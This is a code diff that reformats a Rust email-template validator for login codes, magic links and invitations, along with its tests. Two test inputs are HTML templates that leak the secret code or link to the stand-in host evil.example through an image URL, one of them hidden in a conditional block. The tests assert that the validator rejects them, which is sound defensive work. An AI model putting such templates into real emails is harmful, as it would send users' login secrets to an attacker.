@@ -105,13 +105,7 @@ impl Own {
 
     /// Checks a text by every rule, and by making messages of it with `values`, once with what is optional and once
     /// without.
-    pub(crate) fn check(
-        &self,
-        template: Template,
-        text: &TemplateText,
-        values: &Values<'_>,
-        errors: &mut FieldErrors,
-    ) {
+    pub(crate) fn check(&self, template: Template, text: &TemplateText, values: &Values<'_>, errors: &mut FieldErrors) {
         text.check(template.channel(), errors);
         let parts: &[Part] = match template.channel() {
             Channel::Email => &[Part::Subject, Part::Text, Part::Html],
@@ -125,10 +119,14 @@ impl Own {
         if !errors.is_empty() {
             return;
         }
-        let optional = |name: &str| template.variables().iter().any(|variable| variable.optional && variable.name == name);
+        let optional =
+            |name: &str| template.variables().iter().any(|variable| variable.optional && variable.name == name);
         for without in [false, true] {
-            let more: Vec<(&str, &str)> =
-                values.more.iter().map(|(name, value)| (*name, if without && optional(name) { "" } else { value })).collect();
+            let more: Vec<(&str, &str)> = values
+                .more
+                .iter()
+                .map(|(name, value)| (*name, if without && optional(name) { "" } else { value }))
+                .collect();
             let values = Values { more: &more, ..*values };
             match self.render(template, text, &values) {
                 Ok(made) => check_made(template, &made, &values, errors),
@@ -347,7 +345,9 @@ fn check_block(template: Template, tokens: &[Token]) -> Result<(), String> {
                     // Whatever else is always there; and what depends on its value could not be checked.
                     Token::Word(word)
                         if template.variables().iter().any(|variable| variable.optional && variable.name == word) => {}
-                    Token::Word(word) => return Err(format!("{word} is no optional variable; only those can be asked for.")),
+                    Token::Word(word) => {
+                        return Err(format!("{word} is no optional variable; only those can be asked for."));
+                    }
                     _ => return Err("Only the names of optional variables, and, or, not can be asked for.".to_owned()),
                 }
             }
@@ -451,15 +451,26 @@ mod tests {
             let found = wrong(Template::MagicLink, "Hello", "{{ link }}", html);
             assert_eq!(found.is_empty(), fine, "{html}: {found:?}");
         }
-        let code = wrong(Template::EmailCode, "{{ code }}", "{{ code }}", "<img src=\"https://evil.example/{{ code }}\">{{ code }}");
+        let code = wrong(
+            Template::EmailCode,
+            "{{ code }}",
+            "{{ code }}",
+            "<img src=\"https://evil.example/{{ code }}\">{{ code }}",
+        );
         assert_eq!(code.len(), 1, "{code:?}");
-        let found = wrong(Template::Invitation, "x", "{{ link }}", "{{ link }}{% if not inviter %}<img src='//evil.example/{{ link }}'>{% endif %}");
+        let found = wrong(
+            Template::Invitation,
+            "x",
+            "{{ link }}",
+            "{{ link }}{% if not inviter %}<img src='//evil.example/{{ link }}'>{% endif %}",
+        );
         assert_eq!(found.len(), 1, "{found:?}");
     }
 
     #[test]
     fn codes_and_links_are_blanked_out_wherever_a_realm_puts_them() {
-        let text = TemplateText { subject: "{{ code }} is it".into(), text: "{{ code }}".into(), html: "{{ code }}".into() };
+        let text =
+            TemplateText { subject: "{{ code }} is it".into(), text: "{{ code }}".into(), html: "{{ code }}".into() };
         let mut more = Vec::new();
         let made = Own::new().render(Template::EmailCode, &text, &values(Template::EmailCode, &mut more)).unwrap();
         assert_eq!((made.subject.as_str(), made.content.as_str()), ("••• is it", "•••"));
